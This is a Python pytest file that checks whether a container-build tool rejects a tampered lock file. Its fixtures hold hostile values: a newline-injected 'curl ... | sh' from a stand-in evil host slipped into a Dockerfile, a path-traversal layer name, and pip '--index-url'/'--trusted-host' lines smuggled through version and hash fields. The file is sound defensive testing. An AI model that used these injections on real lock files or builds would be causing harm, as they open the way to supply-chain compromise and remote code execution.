"""A hostile lock file through ``render`` and ``check --offline``, for real: each is refused with one line
(exit 2) naming the lock file, the entry, the field and the value, and nothing is written anywhere.

A lock is a file in a repository, so a pull request can change it. Before it was validated, a commit with a
newline added a Dockerfile instruction, a layer ``../..`` wrote outside the render folder, and a version or
hash carried ``--index-url``/``--trusted-host`` lines into a requirements file that pip reads in the build.
The CLI runs in a subprocess from the test's own folder, so PYTHONPATH picks the rocmstack under test.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import ROOT, shell_view

NAME = "verl-0.9.0-rocm10"  # a shipped recipe whose lock has packages and git commits
COMMIT = "10cb17f59dd082ef1dd9d5a36f8b1b5b3a5ecc3e"
HASH = "sha256:" + "0" * 64
Entry = dict


def _commit(e: Entry) -> None:
    e["git"]["mbridge"]["commit"] = f"{COMMIT}\nRUN curl -fsS https://evil.example/x | sh"


def _layer(e: Entry) -> None:
    e["packages"][0]["layer"] = "../../../pwned"


def _version(e: Entry) -> None:
    e["packages"][0]["version"] = "1.0\n--index-url https://evil.example/simple"


def _hashes(e: Entry) -> None:
    e["packages"][0]["hashes"] = [f"{HASH}\n--trusted-host evil.example"]


def _unknown_entry_key(e: Entry) -> None:
    e["post_install"] = "curl -fsS https://evil.example/x | sh"


def _unknown_package_key(e: Entry) -> None:
    e["packages"][0]["index_url"] = "https://evil.example/simple"


# (how the entry is made hostile, the field the error names, the escaped value it shows)
CASES: dict[str, tuple[Callable[[Entry], None], str, str]] = {
    "commit-newline": (_commit, "git.mbridge.commit", f"'{COMMIT}\\nRUN curl"),
    "layer-dotdot": (_layer, "packages[0].layer", "'../../../pwned'"),
    "version-index-url": (_version, "packages[0].version", "'1.0\\n--index-url https://evil.example/simple'"),
    "hashes-trusted-host": (_hashes, "packages[0].hashes[0]", f"'{HASH}\\n--"),
    "unknown-entry-key": (_unknown_entry_key, "post_install", "'post_install': unknown key"),
    "unknown-package-key": (_unknown_package_key, "packages[0].index_url", "'index_url': unknown key"),
}


def _tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def _rocmstack(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "rocmstack", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "ROCMSTACK_QUIET": "1"},
        timeout=300,
        check=False,
    )


@pytest.fixture
def hostile(tmp_path: Path, request: pytest.FixtureRequest) -> tuple[Path, str, str]:
    """The shipped recipe and its lock in a folder of their own, its default entry made hostile one way."""
    spoil, field, shown = CASES[request.param]
    work = tmp_path / "repo"
    work.mkdir()
    recipe = work / f"{NAME}.yaml"
    shutil.copy(ROOT / "recipes" / f"{NAME}.yaml", recipe)
    data = json.loads((ROOT / "recipes" / f"{NAME}.lock.json").read_text(encoding="utf-8"))
    spoil(data["entries"]["gfx942;gfx950"])  # the default build's entry; the others stay well formed
    (work / f"{NAME}.lock.json").write_text(json.dumps(data, indent=2), encoding="utf-8")
    return recipe, field, shown


def _refused(proc: subprocess.CompletedProcess[str], field: str, shown: str) -> None:
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert len(lines) == 1, proc.stderr
    assert f"{NAME}.lock.json: entry 'gfx942;gfx950': {field} = " in lines[0], lines[0]
    assert shown in lines[0], lines[0]
    assert "Traceback" not in proc.stderr


@pytest.mark.parametrize("hostile", sorted(CASES), indirect=True)
def test_render_refuses_a_hostile_lock_and_writes_nothing(hostile, tmp_path):
    recipe, field, shown = hostile
    before = _tree(tmp_path)
    proc = _rocmstack("render", str(recipe), "-o", str(tmp_path / "repo" / "out" / "context"), cwd=tmp_path)
    _refused(proc, field, shown)
    assert _tree(tmp_path) == before  # no context, no temporary folder, nothing beside or above it


@pytest.mark.parametrize("hostile", sorted(CASES), indirect=True)
def test_offline_check_refuses_a_hostile_lock(hostile, tmp_path):
    recipe, field, shown = hostile
    before = _tree(tmp_path)
    _refused(_rocmstack("check", str(recipe), "--offline", cwd=tmp_path), field, shown)
    assert _tree(tmp_path) == before


def test_the_untouched_lock_renders(tmp_path):
    """The same copy without the hostile edit renders: what is refused above is the edit alone."""
    work = tmp_path / "repo"
    work.mkdir()
    for name in (f"{NAME}.yaml", f"{NAME}.lock.json"):
        shutil.copy(ROOT / "recipes" / name, work / name)
    out = work / "out" / "context"
    proc = _rocmstack("render", str(work / f"{NAME}.yaml"), "-o", str(out), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert f'origin "{COMMIT}"' in shell_view((out / "Dockerfile").read_text(encoding="utf-8"))
